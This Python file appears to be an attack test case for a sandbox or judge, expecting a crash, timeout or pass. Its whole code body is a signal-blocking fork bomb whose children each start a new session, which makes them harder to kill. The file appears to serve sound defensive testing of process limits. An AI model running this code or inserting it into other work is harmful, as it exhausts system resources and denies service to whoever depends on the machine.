"""Forks without end, each child in a session of its own, deaf to every signal that can be ignored.

Attack: 8
Behind: solution.py
Keeps: none
Status: crashed or timeout or ok
Limits: 2
Needs: processes
"""

import os
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
